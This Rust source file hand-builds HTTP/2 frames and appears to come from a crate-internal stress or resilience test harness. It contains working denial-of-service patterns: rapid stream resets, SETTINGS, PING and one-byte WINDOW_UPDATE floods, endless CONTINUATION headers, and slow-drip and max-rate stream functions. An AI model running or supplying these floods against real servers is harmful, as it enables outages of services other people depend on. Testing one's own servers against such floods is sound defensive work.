//! HTTP/2 written by hand, for callers that do with it what no library would.

use std::collections::BTreeMap;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};

use super::pass;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GO_AWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;
/// Bytes that a stream and a connection may carry before anybody says otherwise.
const WINDOW: i64 = 65_535;
const PIECE: i64 = 16_384;

pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// A `POST` of JSON to a path, its headers spelled out.
pub(crate) fn post(stream: u32, authority: &str, path: &str) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream, &fields(authority, path))
}

fn fields(authority: &str, path: &str) -> Vec<u8> {
    let mut block = vec![0x83, 0x86]; // :method POST, :scheme http
    for (name, value) in [(":path", path), (":authority", authority), ("content-type", "application/json")] {
        block.push(0);
        for text in [name, value] {
            block.push(u8::try_from(text.len()).unwrap());
            block.extend(text.as_bytes());
        }
    }
    block
}

/// Frames of which a server may get as many as a caller can send.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Flood {
    /// Streams that are taken back at once.
    Resets,
    Settings,
    Pings,
    /// Headers of one request that never end.
    Headers,
    /// Room for answers, a byte at a time.
    Windows,
}

impl Flood {
    pub(crate) const ALL: [Self; 5] =
        [Self::Resets, Self::Settings, Self::Pings, Self::Headers, Self::Windows];

    /// Frames of this kind, the so-many-th of a connection.
    pub(crate) fn frames(self, number: u32, authority: &str) -> Vec<u8> {
        match self {
            Self::Resets => {
                let stream = 2 * number + 1;
                let mut frames = post(stream, authority, "/api/v1/tx");
                frames.extend(frame(RESET, 0, stream, &8_u32.to_be_bytes()));
                frames
            }
            // SETTINGS_HEADER_TABLE_SIZE, now this and now that.
            Self::Settings => frame(SETTINGS, 0, 0, &[0, 1, 0, 0, number.to_be_bytes()[3], 0]),
            Self::Pings => frame(PING, 0, 0, &[7; 8]),
            Self::Headers if number == 0 => frame(HEADERS, 0, 1, &fields(authority, "/api/v1/tx")),
            Self::Headers => {
                // A field of its own in each: a literal that is not indexed.
                let mut block = vec![0, 1, b'x', 127, 0x81, 0x7e];
                block.extend(vec![b'y'; 16_256]);
                frame(CONTINUATION, 0, 1, &block)
            }
            Self::Windows => frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
        }
    }
}

/// A connection that has greeted.
pub(crate) async fn greet(address: &str) -> Option<TcpStream> {
    let mut stream = TcpStream::connect(address).await.ok()?;
    let mut hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    hello.extend(frame(SETTINGS, 0, 0, &[]));
    stream.write_all(&hello).await.ok()?;
    Some(stream)
}

/// Opens so many streams at once and sends so many bytes on each, as fast as the server lets it, until that is done or the
/// server ends it. Gives back how many bytes it could send.
pub(crate) async fn pour(address: &str, path: &str, streams: u32, bytes: i64) -> i64 {
    let Some(stream) = greet(address).await else { return 0 };
    let (mut reads, mut writes) = stream.into_split();
    for stream in 0..streams {
        if writes.write_all(&post(2 * stream + 1, address, path)).await.is_err() {
            return 0;
        }
    }
    let mut pouring = Pouring {
        windows: (0..streams).map(|stream| (2 * stream + 1, (WINDOW, bytes))).collect(),
        window: WINDOW,
        sent: 0,
    };
    // Until nothing is left to send, or to hear.
    while !pouring.windows.is_empty() && pouring.write(&mut writes).await.is_some() {
        if pouring.hear(&mut reads, &mut writes).await.is_none() {
            break;
        }
    }
    pouring.sent
}

/// Opens so many streams at once and sends a little on each now and then, as far as the first windows go, or until the server ends
/// it. Gives back how many bytes it could send.
pub(crate) async fn drip(address: &str, path: &str, streams: u32) -> usize {
    const DROP: usize = 100;
    let Some(stream) = greet(address).await else { return 0 };
    let (mut reads, mut writes) = stream.into_split();
    for stream in 0..streams {
        if writes.write_all(&post(2 * stream + 1, address, path)).await.is_err() {
            return 0;
        }
    }
    let reading = tokio::spawn(async move {
        let mut answers = [0; 4_096];
        while reads.read(&mut answers).await.is_ok_and(|read| read > 0) {}
    });
    let most = usize::try_from(WINDOW).unwrap() / DROP;
    let mut sent = 0;
    for (number, stream) in (0..most).zip((0..streams).cycle()) {
        if writes.write_all(&frame(DATA, 0, 2 * stream + 1, &[b' '; DROP])).await.is_err() {
            break;
        }
        sent += DROP;
        if number % 10 == 0 {
            pass(Duration::from_millis(20)).await;
        }
    }
    reading.abort();
    sent
}

struct Pouring {
    /// Bytes that each stream may still carry, and has to.
    windows: BTreeMap<u32, (i64, i64)>,
    window: i64,
    sent: i64,
}

impl Pouring {
    async fn write(&mut self, writes: &mut OwnedWriteHalf) -> Option<()> {
        for (stream, (may, left)) in &mut self.windows {
            while *left > 0 && *may > 0 && self.window > 0 {
                let piece = PIECE.min(*left).min(*may).min(self.window);
                let payload = vec![b' '; usize::try_from(piece).unwrap()];
                writes.write_all(&frame(DATA, 0, *stream, &payload)).await.ok()?;
                *left -= piece;
                *may -= piece;
                self.window -= piece;
                self.sent += piece;
            }
        }
        self.windows.retain(|_, (_, left)| *left > 0);
        Some(())
    }

    async fn hear(&mut self, reads: &mut OwnedReadHalf, writes: &mut OwnedWriteHalf) -> Option<()> {
        let mut head = [0; 9];
        reads.read_exact(&mut head).await.ok()?;
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        let stream = u32::from_be_bytes([head[5], head[6], head[7], head[8]]);
        let mut payload = vec![0; length as usize];
        reads.read_exact(&mut payload).await.ok()?;
        let number = |at: usize| u32::from_be_bytes(payload[at..at + 4].try_into().unwrap());
        match head[3] {
            SETTINGS if head[4] == 0 => {
                for at in (0..payload.len()).step_by(6) {
                    // SETTINGS_INITIAL_WINDOW_SIZE
                    if payload[at..at + 2] == [0, 4] {
                        let more = i64::from(number(at + 2)) - WINDOW;
                        self.windows.values_mut().for_each(|(may, _)| *may += more);
                    }
                }
                writes.write_all(&frame(SETTINGS, 1, 0, &[])).await.ok()?;
            }
            WINDOW_UPDATE if stream == 0 => self.window += i64::from(number(0)),
            WINDOW_UPDATE => {
                self.windows.entry(stream).and_modify(|(may, _)| *may += i64::from(number(0)));
            }
            RESET => {
                self.windows.remove(&stream);
            }
            GO_AWAY => return None,
            _ => {}
        }
        Some(())
    }
}
